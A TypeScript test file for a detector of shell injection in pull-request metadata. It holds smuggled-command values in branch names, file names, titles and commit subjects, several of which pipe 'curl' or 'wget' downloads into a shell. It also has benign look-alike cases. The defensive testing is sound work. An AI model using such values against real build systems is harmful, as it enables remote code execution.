// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows and shells are what is tested
import type { ChangeTexts } from "../../../src/change/change.ts";
import { texts } from "../given.ts";
import { missed, tricksOn } from "../tricks.ts";
import type { Vector } from "../vector.ts";
import { INJECTIONS, ORDINARY_TEXTS, UNCAUGHT } from "./tricks/metadata.ts";

const of = (field: ChangeTexts["texts"][number]["field"], text: string) => ({
  "change.texts": texts([{ field, text }]),
});

export default [
  ...tricksOn(([field, text]) => of(field, text), [...INJECTIONS, ...ORDINARY_TEXTS]),
  ...missed(
    tricksOn(([field, text]) => of(field, text), UNCAUGHT),
    { outcome: "clear" },
  ),
  {
    kind: "fires",
    when: "a branch name substitutes a command",
    given: of("branch", "fix-$(curl${IFS}-s${IFS}example.org|bash)"),
    expect: {
      outcome: "fired",
      severity: "critical",
      fact: "The branch name contains a complete command for a shell.",
    },
  },
  {
    kind: "fires",
    when: "a branch name runs a brace list",
    given: of("branch", "a;{curl,-s,example.org}|bash"),
    expect: { outcome: "fired", severity: "critical" },
  },
  {
    kind: "fires",
    when: "a file name chains an interpreter",
    given: of("file_name", "docs/a;python3 -c x.md"),
    expect: {
      outcome: "fired",
      severity: "critical",
      fact: "The name of a file contains a complete command for a shell.",
    },
  },
  {
    kind: "fires",
    when: "a file name contains a line feed",
    given: of("file_name", "a\nb.md"),
    expect: {
      outcome: "fired",
      severity: "high",
      fact: "The name of a file contains characters that a shell would act on.",
    },
  },
  {
    kind: "fires",
    when: "a title breaks out of a quoted string",
    given: of("title", 'docs"; curl https://example.org/x | sh; echo "'),
    expect: { outcome: "fired", severity: "high", fact: "The title contains characters that a shell would act on." },
  },
  {
    kind: "fires",
    when: "a commit subject substitutes a download",
    given: of("commit_subject", "fix $(wget -qO- example.org)"),
    expect: {
      outcome: "fired",
      severity: "high",
      fact: "The subject of a commit contains characters that a shell would act on.",
    },
  },
  {
    kind: "look_alike",
    when: "a title shows a command",
    given: of("title", "Run `npm test` before `git push` && document $(pwd)"),
    expect: { outcome: "clear" },
  },
  {
    kind: "look_alike",
    when: "a title is about an installer",
    given: of("title", "docs: replace curl | bash by a package; node 22 is required"),
    expect: { outcome: "clear" },
  },
  {
    kind: "look_alike",
    when: "file names of routes and templates",
    given: {
      "change.texts": texts(
        [
          "app/(shop)/[id]/page.tsx",
          "app/routes/($lang).$slug.tsx",
          "skeleton/${{values.id}}/index.ts",
          "R&env/notes.md",
        ].map((text) => ({ field: "file_name" as const, text })),
      ),
    },
    expect: { outcome: "clear" },
  },
  {
    kind: "look_alike",
    when: "branches of update bots",
    given: {
      "change.texts": texts(
        ["dependabot/npm_and_yarn/multi-3f2a", "renovate/node-22.x", "feat/c++-a&b#12"].map((text) => ({
          field: "branch" as const,
          text,
        })),
      ),
    },
    expect: { outcome: "clear" },
  },
  {
    kind: "boundary",
    when: "a branch name with a substitution that runs no program",
    given: of("branch", "fix-$(x)"),
    expect: {
      outcome: "fired",
      severity: "high",
      fact: "The branch name contains characters that a shell would act on.",
    },
  },
  {
    kind: "boundary",
    when: "a branch name with a lone dollar sign",
    given: of("branch", "fix-$x"),
    expect: { outcome: "clear" },
  },
] satisfies readonly Vector[];
